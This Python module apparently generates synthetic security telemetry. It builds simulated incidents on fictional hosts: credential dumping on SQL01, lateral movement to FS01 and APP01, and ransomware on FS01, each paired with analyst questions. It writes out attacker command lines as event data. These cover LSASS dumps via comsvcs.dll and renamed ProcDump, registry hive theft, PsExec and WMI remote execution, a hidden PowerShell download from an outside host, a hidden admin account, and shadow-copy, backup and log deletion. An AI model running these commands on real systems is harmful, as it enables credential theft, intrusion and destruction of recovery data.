"""Intrusions on servers: credentials, lateral movement, and what comes before encryption."""

from __future__ import annotations

from datetime import datetime, timedelta

from .calendar import moment
from .processes import Process, standing
from .stock import Stock
from .story import Story
from .tenant import SYSTEM, Host, Tenant

__all__ = ["credential_dumping", "lateral_movement", "ransomware"]

_SYSTEM32 = r"C:\Windows\System32"


def credential_dumping(stock: Stock, company: Tenant) -> Story:
    """The database service on SQL01 is made to run commands, and the memory of LSASS is dumped."""
    story = Story(
        stock, "credential-dumping-sql01", "incident", "LSASS memory and the SAM are dumped on SQL01",
        "Was there any credential dumping on SQL01 on 5 March?", "What did the SQL Server service start on SQL01?",
    )  # fmt: skip
    host, at = company.hosts["SQL01"], moment(5, "22:47:05")
    service = standing(host, "sqlservr.exe", company.services["svc-sql"])
    shell = story.process(
        at,
        service,
        "cmd.exe",
        r'"C:\Windows\system32\cmd.exe" /c whoami & tasklist /fi "imagename eq lsass.exe"',
        "T1505.001 T1059.003",
        "SQL Server starts a command shell",
        integrity="High",
    )
    story.process(at + timedelta(seconds=1), shell, "whoami.exe", "whoami", "T1033", "discovery with whoami")
    story.process(
        at + timedelta(seconds=1),
        shell,
        "tasklist.exe",
        'tasklist /fi "imagename eq lsass.exe"',
        "T1057",
        "the process id of LSASS is looked up",
    )
    dump = _dump_by_library(story, service, at + timedelta(seconds=95))
    _dump_by_tool(story, service, at + timedelta(minutes=4))
    story.alert(
        at + timedelta(minutes=7),
        "Suspicious access to LSASS memory",
        "High",
        "CredentialAccess",
        "T1003.001",
        process=dump,
        account=service.actor,
    )
    return story


def _dump_by_library(story: Story, service: Process, at: datetime) -> Process:
    target = standing(service.host, "lsass.exe", SYSTEM).pid
    line = rf"rundll32.exe {_SYSTEM32}\comsvcs.dll, MiniDump {target} C:\Windows\Temp\dbg.bin full"
    shell = story.process(
        at,
        service,
        "cmd.exe",
        rf'"{_SYSTEM32}\cmd.exe" /c {line}',
        "T1059.003",
        "SQL Server starts another",
        integrity="High",
    )
    dump = story.process(
        at + timedelta(seconds=1),
        shell,
        "rundll32.exe",
        line,
        "T1003.001",
        "comsvcs.dll dumps the memory of LSASS",
        actor=SYSTEM,
    )
    story.file(at + timedelta(seconds=3), dump, r"C:\Windows\Temp\dbg.bin", "T1003.001", "the dump is written")
    return dump


def _dump_by_tool(story: Story, service: Process, at: datetime) -> None:
    shell = story.process(
        at,
        service,
        "cmd.exe",
        rf'"{_SYSTEM32}\cmd.exe"',
        "T1059.003",
        "an interactive shell",
        integrity="High",
    )
    story.file(
        at + timedelta(seconds=9),
        shell,
        r"C:\Windows\Temp\pd64.exe",
        "T1105",
        "a tool is brought along",
        url="http://198.51.100.61/pd64.exe",
        origin="198.51.100.61",
        renamed="procdump64.exe",
    )
    second = story.process(
        at + timedelta(seconds=20),
        shell,
        "pd64.exe",
        r"C:\Windows\Temp\pd64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
        "T1003.001 T1036.003",
        "ProcDump under another name dumps LSASS",
        folder=r"C:\Windows\Temp",
        renamed="procdump64.exe",
    )
    story.file(
        at + timedelta(seconds=23),
        second,
        r"C:\Windows\Temp\lsass.dmp",
        "T1003.001",
        "a second dump is written",
    )
    for hive in ("SAM", "SYSTEM"):
        story.process(
            at + timedelta(seconds=60 + len(hive)),
            shell,
            "reg.exe",
            rf"reg save HKLM\{hive} C:\Windows\Temp\{hive.lower()}.hiv /y",
            "T1003.002",
            f"the {hive} hive is saved",
        )


def lateral_movement(stock: Stock, company: Tenant) -> Story:
    """With a stolen administrator's hash, a service is started on FS01 and a command by WMI on APP01."""
    story = Story(
        stock, "lateral-movement-fs01", "incident", "From SQL01 to FS01 by a remote service and to APP01 by WMI",
        "Is there any sign of lateral movement to FS01 on 6 March?", "Where did adm-erik's account log on from SQL01?",
    )  # fmt: skip
    sql, at = company.hosts["SQL01"], moment(6, "01:22:10")
    shell = story.process(
        at,
        standing(sql, "sqlservr.exe", company.services["svc-sql"]),
        "cmd.exe",
        rf'"{_SYSTEM32}\cmd.exe"',
        "T1059.003",
        "a shell under SQL Server",
        integrity="High",
    )
    remote = _service_on(story, shell, company, at + timedelta(seconds=30))
    _wmi_to_app(story, shell, company, at + timedelta(minutes=6))
    story.alert(
        at + timedelta(minutes=9),
        "Suspicious remote service creation",
        "Medium",
        "LateralMovement",
        "T1569.002 T1021.002",
        process=remote,
        account=company.accounts["adm-erik"],
        address=sql.address,
    )
    return story


def _service_on(story: Story, shell: Process, company: Tenant, at: datetime) -> Process:
    files = company.hosts["FS01"]
    sender = story.process(
        at,
        shell,
        "ps64.exe",
        r"C:\Windows\Temp\ps64.exe \\FS01 -accepteula -s -d cmd.exe /c C:\Windows\Temp\up.bat",
        "T1569.002 T1021.002",
        "PsExec under another name reaches for FS01",
        folder=r"C:\Windows\Temp",
        renamed="PsExec64.exe",
    )
    story.connect(at + timedelta(seconds=1), sender, files.address, 445, "T1021.002", "SMB from SQL01 to FS01")
    story.logon(
        at + timedelta(seconds=1),
        files,
        company.accounts["adm-erik"],
        "Network",
        shell.host,
        "T1550.002 T1021.002",
        "the administrator's account logs on by NTLM from a database server",
        admin=True,
    )
    return _started_service(story, files, at + timedelta(seconds=2))


def _started_service(story: Story, files: Host, at: datetime) -> Process:
    system = standing(files, "System", SYSTEM)
    story.file(
        at,
        system,
        r"C:\Windows\PSEXESVC.exe",
        "T1570 T1021.002",
        "the service's program is written to ADMIN$",
    )
    services = standing(files, "services.exe", SYSTEM)
    story.registry(
        at,
        services,
        r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC",
        "ImagePath",
        r"%SystemRoot%\PSEXESVC.exe",
        "T1543.003",
        "a service is created",
    )
    remote = story.process(
        at + timedelta(seconds=1),
        services,
        "PSEXESVC.exe",
        r"C:\Windows\PSEXESVC.exe",
        "T1569.002",
        "the service starts",
    )
    command = story.process(
        at + timedelta(seconds=2),
        remote,
        "cmd.exe",
        r"cmd.exe /c C:\Windows\Temp\up.bat",
        "T1059.003",
        "it runs a batch file as SYSTEM",
    )
    story.process(
        at + timedelta(seconds=4),
        command,
        "net.exe",
        "net localgroup Administrators helpdesk$ /add",
        "T1098.007",
        "a hidden account becomes administrator",
    )
    return remote


def _wmi_to_app(story: Story, shell: Process, company: Tenant, at: datetime) -> None:
    app, erik = company.hosts["APP01"], company.accounts["adm-erik"]
    inner = r"powershell -nop -w hidden -c iwr http://198.51.100.61/b -OutFile C:\ProgramData\b.exe"
    wmi = story.process(
        at,
        shell,
        "wmic.exe",
        rf'wmic /node:APP01 /user:CONTOSO\adm-erik process call create "{inner}"',
        "T1047",
        "WMI starts a command on APP01",
    )
    story.connect(at + timedelta(seconds=1), wmi, app.address, 135, "T1047", "RPC from SQL01 to APP01")
    story.logon(
        at + timedelta(seconds=1),
        app,
        erik,
        "Network",
        shell.host,
        "T1047 T1550.002",
        "the administrator's account logs on to APP01",
        admin=True,
    )
    host = standing(app, "WmiPrvSE.exe", SYSTEM)
    loader = story.process(
        at + timedelta(seconds=2),
        host,
        "powershell.exe",
        inner,
        "T1047 T1059.001 T1105",
        "the WMI host starts PowerShell",
        actor=erik,
        integrity="High",
    )
    story.connect(
        at + timedelta(seconds=4),
        loader,
        "198.51.100.61",
        80,
        "T1105",
        "a program is fetched",
        url="http://198.51.100.61/b",
    )
    story.file(at + timedelta(seconds=5), loader, r"C:\ProgramData\b.exe", "T1105", "it is written to ProgramData")


_SERVICES = ("MSSQLSERVER", "VeeamBackupSvc", "SQLWriter", "BackupExecAgentAccelerator", "Sense", "wbengine", "vss")
_COMMANDS = (
    ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "T1490", "the shadow copies are deleted"),
    ("wmic.exe", "wmic shadowcopy delete", "T1490", "and once more by WMI"),
    ("wbadmin.exe", "wbadmin delete catalog -quiet", "T1490", "the backup catalogue is deleted"),
    ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No", "T1490", "recovery at boot is switched off"),
    ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures", "T1490", "boot failures are ignored"),
    ("wevtutil.exe", "wevtutil cl Security", "T1685.005", "the security log is cleared"),
    ("netsh.exe", "netsh advfirewall set allprofiles state off", "T1686.003", "the firewall is switched off"),
)


def ransomware(stock: Stock, company: Tenant) -> Story:
    """On Friday night FS01 loses its recovery, its services and the names of its files."""
    story = Story(
        stock, "ransomware-fs01", "incident", "Recovery is destroyed and files are encrypted on FS01",
        "What happened on FS01 on Friday night?", "Were shadow copies deleted on any server in the last week?",
    )  # fmt: skip
    host, at = company.hosts["FS01"], moment(13, "22:08:50")
    story.logon(
        at - timedelta(seconds=20),
        host,
        company.accounts["adm-erik"],
        "Network",
        company.hosts["APP01"],
        "T1021.002",
        "the administrator's account comes from APP01",
        admin=True,
    )
    batch = story.process(
        at,
        standing(host, "PSEXESVC.exe", SYSTEM),
        "cmd.exe",
        r"cmd.exe /c C:\Windows\Temp\go.bat",
        "T1059.003",
        "a batch file starts as SYSTEM",
    )
    for name in _SERVICES:
        at += timedelta(seconds=2)
        story.process(at, batch, "net.exe", f"net stop {name} /y", "T1489", f"the service {name} is stopped")
    story.process(
        at + timedelta(seconds=1),
        batch,
        "taskkill.exe",
        "taskkill /f /im sqlservr.exe",
        "T1489",
        "the database is ended",
    )
    for name, line, technique, event in _COMMANDS:
        at += timedelta(seconds=3)
        story.process(at, batch, name, line, technique, event)
    locker = story.process(
        at + timedelta(seconds=9),
        batch,
        "b.exe",
        r"C:\ProgramData\b.exe -path D:\Shares -threads 8",
        "T1486",
        "the encryption starts",
        folder=r"C:\ProgramData",
    )
    _encrypt(story, locker)
    story.alert(
        at + timedelta(minutes=2),
        "Ransomware behavior detected in the file system",
        "High",
        "Ransomware",
        "T1486 T1490",
        process=locker,
        account=SYSTEM,
    )
    return story


def _encrypt(story: Story, locker: Process) -> None:
    start = locker.created + timedelta(seconds=4)
    for number in range(140):
        old = rf"D:\Shares\{('Finance', 'Sales', 'Legal')[number % 3]}\2026\File {1000 + number}.xlsx"
        stage = "T1486" if number in (0, 139) else ""
        story.file(
            start + timedelta(milliseconds=410 * number),
            locker,
            f"{old}.lokk3d",
            stage,
            "files get a new ending",
            action="FileRenamed",
            previous=old,
        )
    for share in ("Finance", "Sales", "Legal"):
        story.file(
            start + timedelta(seconds=60),
            locker,
            rf"D:\Shares\{share}\HOW_TO_RECOVER_FILES.txt",
            "T1486",
            "a note is left",
        )
